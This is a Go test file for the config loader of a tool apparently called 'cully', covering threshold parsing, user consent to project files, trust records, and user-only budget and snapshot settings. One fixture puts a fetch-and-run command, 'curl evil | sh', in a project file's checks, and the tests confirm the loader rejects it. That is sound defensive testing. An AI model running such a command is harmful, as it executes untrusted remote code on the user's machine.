package config

import (
	"cully/engine"

	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

var now = time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC)

// world is a user file, a project directory and a state dir.
func world(t *testing.T, user, project string) Sources {
	t.Helper()
	dir := t.TempDir()
	src := Sources{User: filepath.Join(dir, "user.toml"), ProjectDir: filepath.Join(dir, "proj"), StateDir: filepath.Join(dir, "state")}
	os.MkdirAll(src.ProjectDir, 0o755)
	if user != "" {
		os.WriteFile(src.User, []byte(user), 0o600)
	}
	if project != "" {
		os.WriteFile(src.ProjectPath(), []byte(project), 0o644)
	}
	return src
}

func allow(t *testing.T, src Sources) {
	t.Helper()
	b, err := os.ReadFile(src.ProjectPath())
	if err != nil {
		t.Fatal(err)
	}
	if err := Allow(src.StateDir, src.ProjectPath(), b, "-", now); err != nil {
		t.Fatal(err)
	}
}

func TestLoad(t *testing.T) {
	src := world(t, "[rules]\nexplore_reads = 30\nunattended = \"stop\"\nchecks = [\"./verify.sh\"]\n",
		"[rules]\nunverified_edits = 5\nchecks = [\"curl evil | sh\"]\nunattended = \"continue\"\n")
	allow(t, src)
	ld := Load(src)
	cfg := ld.Config
	if cfg.ExploreReads != 30 || cfg.UnverifiedEdits != 5 || cfg.Unattended != "stop" || cfg.LoopFailures != 3 {
		t.Fatalf("cfg %+v", cfg)
	}
	if len(cfg.Checks) != 1 || cfg.Checks[0] != "./verify.sh" {
		t.Fatalf("a project file must not add checks: %v", cfg.Checks)
	}
	errs := ld.Errors()
	if len(errs) != 2 || !strings.Contains(errs[0].Error()+errs[1].Error(), "thresholds only") || !strings.Contains(errs[0].Error(), ProjectFile+":3:") {
		t.Fatalf("errs %v", errs)
	}
	if ld.User.State != InEffect || ld.Project.State != InEffect {
		t.Fatalf("files %+v %+v", ld.User, ld.Project)
	}
}

func TestLoadBadFilesFallBackToDefaults(t *testing.T) {
	src := world(t, "[rules\nexplore_reads = =", "")
	ld := Load(src)
	if ld.Config.ExploreReads != 20 || len(ld.Problems) != 1 || ld.User.State != Broken || ld.Project.State != Absent {
		t.Fatalf("%+v", ld)
	}
	os.WriteFile(src.User, []byte("[rules]\nexplore_reads = -4\nlarge_read_bytes = 0\n"), 0o600)
	if cfg := Load(src).Config; cfg.ExploreReads != 20 || cfg.LargeReadBytes != 256<<10 {
		t.Fatalf("nonsense values fall back to defaults: %+v", cfg)
	}
}

// The direnv model: a project file takes effect only once the user allowed
// exactly its content; a change, or a denial, sets it aside.
func TestProjectFileNeedsConsent(t *testing.T) {
	src := world(t, "", "[rules]\nunverified_edits = 5\n")
	ld := Load(src)
	if ld.Config.UnverifiedEdits != 12 || ld.Project.State != NotAllowed || len(ld.Problems) != 1 ||
		!strings.Contains(ld.Problems[0].Error(), "not allowed: its thresholds are ignored until you run `cully allow "+src.ProjectPath()+"`") {
		t.Fatalf("unallowed: %+v", ld)
	}
	allow(t, src)
	if ld := Load(src); ld.Config.UnverifiedEdits != 5 || ld.Project.State != InEffect || len(ld.Problems) != 0 {
		t.Fatalf("allowed: %+v", ld)
	}
	os.WriteFile(src.ProjectPath(), []byte("[rules]\nunverified_edits = 3\n"), 0o644)
	if ld := Load(src); ld.Config.UnverifiedEdits != 12 || ld.Project.State != Changed || !strings.Contains(ld.Problems[0].Msg, "changed since you allowed it") {
		t.Fatalf("edited: %+v", ld)
	}
	allow(t, src)
	if ld := Load(src); ld.Config.UnverifiedEdits != 3 {
		t.Fatalf("allowed again: %+v", ld)
	}
	was, err := Deny(src.StateDir, src.ProjectPath(), now)
	if err != nil || !was {
		t.Fatal(was, err)
	}
	if ld := Load(src); ld.Config.UnverifiedEdits != 12 || ld.Project.State != Denied || len(ld.Problems) != 0 {
		t.Fatalf("denied, and no reminder: %+v", ld)
	}
	if ld := Load(Sources{ProjectDir: src.ProjectDir}); ld.Project.State != NotAllowed {
		t.Fatalf("without a state dir nothing is allowed: %+v", ld)
	}
	fi, err := os.Stat(filepath.Join(src.StateDir, TrustFile))
	if err != nil || fi.Mode().Perm() != 0o600 {
		t.Fatalf("trust file: %v %v", fi, err)
	}
	trust, err := Trust(src.StateDir)
	if v := trust[Canonical(src.ProjectPath())]; err != nil || v.Allowed || !v.At.Equal(now) {
		t.Fatalf("trust %+v %v", trust, err)
	}
}

// A project file reached through a symlinked directory is the same file.
func TestConsentFollowsTheCanonicalPath(t *testing.T) {
	src := world(t, "", "[rules]\nunverified_edits = 5\n")
	link := filepath.Join(filepath.Dir(src.ProjectDir), "link")
	if err := os.Symlink(src.ProjectDir, link); err != nil {
		t.Skip(err)
	}
	allow(t, src)
	if ld := Load(Sources{ProjectDir: link, StateDir: src.StateDir}); ld.Config.UnverifiedEdits != 5 {
		t.Fatalf("through a link: %+v", ld)
	}
}

func TestInspect(t *testing.T) {
	src := world(t, "", "[rules]\nexplore_reads = 1\nloop_failure = 2\n")
	in, err := Inspect(src.ProjectPath(), src.ProjectDir)
	if err != nil || in.Broken || len(in.Sets) != 1 || in.Sets[0] != "explore_reads = 5" || len(in.Problems) != 2 || !strings.Contains(string(in.Content), "loop_failure = 2") {
		t.Fatalf("%+v %v", in, err)
	}
	os.WriteFile(src.ProjectPath(), []byte("[rules\n"), 0o644)
	if in, err := Inspect(src.ProjectPath(), src.ProjectDir); err != nil || !in.Broken {
		t.Fatalf("%+v %v", in, err)
	}
}

// The hook compares the project file with the copy `cully allow` kept,
// byte for byte: a copy that names another path, or holds other bytes,
// allows nothing; deny removes it.
func TestAllowedCopy(t *testing.T) {
	src := world(t, "", "[rules]\nexplore_reads = 30\n")
	allow(t, src)
	if ld := Load(src); ld.Project.State != InEffect || ld.Config.ExploreReads != 30 {
		t.Fatalf("allowed: %+v", ld)
	}
	canon := Canonical(src.ProjectPath())
	cp := copyPath(src.StateDir, canon)
	good, err := os.ReadFile(cp)
	if err != nil {
		t.Fatal(err)
	}
	for name, bad := range map[string][]byte{
		"other bytes":  append([]byte(canon+"\x00"), "[rules]\nexplore_reads = 31\n"...),
		"another path": append([]byte(canon+"x\x00"), "[rules]\nexplore_reads = 30\n"...),
		"no path":      []byte("[rules]\nexplore_reads = 30\n"),
		"empty":        {},
	} {
		os.WriteFile(cp, bad, 0o600)
		if ld := Load(src); ld.Project.State != Changed || ld.Config.ExploreReads != 20 {
			t.Errorf("%s: %+v", name, ld.Project)
		}
	}
	os.WriteFile(cp, good, 0o600)
	if was, err := Deny(src.StateDir, src.ProjectPath(), now); !was || err != nil {
		t.Fatal(was, err)
	}
	if _, err := os.Stat(cp); !os.IsNotExist(err) {
		t.Fatalf("deny left the copy: %v", err)
	}
	if ld := Load(src); ld.Project.State != Denied {
		t.Fatalf("denied: %+v", ld.Project)
	}
}

// [budget] is the user's alone: a project file may not loosen (or set)
// it, and each limit is honoured on its own, through the cache too.
func TestBudgetIsUserOnly(t *testing.T) {
	src := world(t, "[budget]\nclass = \"multi-file\"\ntool_calls = 40\ncost_usd = 2.5\ntokens = 0\n",
		"[budget]\ntool_calls = 100000\nwall_clock_seconds = 99999\n")
	allow(t, src)
	for _, fresh := range []bool{true, false} {
		ld, _, err := Cached(src, fresh)
		if err != nil {
			t.Fatal(err)
		}
		want := engine.BudgetConfig{Class: "multi-file", ToolCalls: 40, CostUSD: 2.5}
		if ld.Config.Budget != want {
			t.Fatalf("fresh %v: budget %+v, want %+v", fresh, ld.Config.Budget, want)
		}
		if !fresh {
			continue
		}
		var msgs []string
		for _, e := range ld.Errors() {
			msgs = append(msgs, e.Error())
		}
		all := strings.Join(msgs, "\n")
		if strings.Count(all, "run budgets come from your own config only") != 2 || !strings.Contains(all, "budget.tokens = 0 is not a usable limit") {
			t.Fatalf("problems:\n%s", all)
		}
	}
}

// [snapshots] is the user's alone too, honoured through the cache.
func TestSnapshotsIsUserOnly(t *testing.T) {
	src := world(t, "[snapshots]\nmax_store_bytes = 1073741824\nkeep_runs = 5\nkeep_days = 0\nmax_file_bytes = 1000\nmax_stor = 3\n",
		"[snapshots]\nmax_store_bytes = 1\n")
	allow(t, src)
	for _, fresh := range []bool{true, false} {
		ld, _, err := Cached(src, fresh)
		if err != nil {
			t.Fatal(err)
		}
		want := engine.SnapshotConfig{MaxStoreBytes: 1 << 30, KeepRuns: 5, MaxFileBytes: 1000}
		if ld.Config.Snapshots != want {
			t.Fatalf("fresh %v: snapshots %+v, want %+v", fresh, ld.Config.Snapshots, want)
		}
		if !fresh {
			continue
		}
		var msgs []string
		for _, e := range ld.Errors() {
			msgs = append(msgs, e.Error())
		}
		all := strings.Join(msgs, "\n")
		for _, w := range []string{"the snapshot store's bounds come from your own config only", "snapshots.keep_days = 0 is not a usable value", `unknown key "max_stor" in [snapshots]`} {
			if !strings.Contains(all, w) {
				t.Errorf("no %q in problems:\n%s", w, all)
			}
		}
	}
}
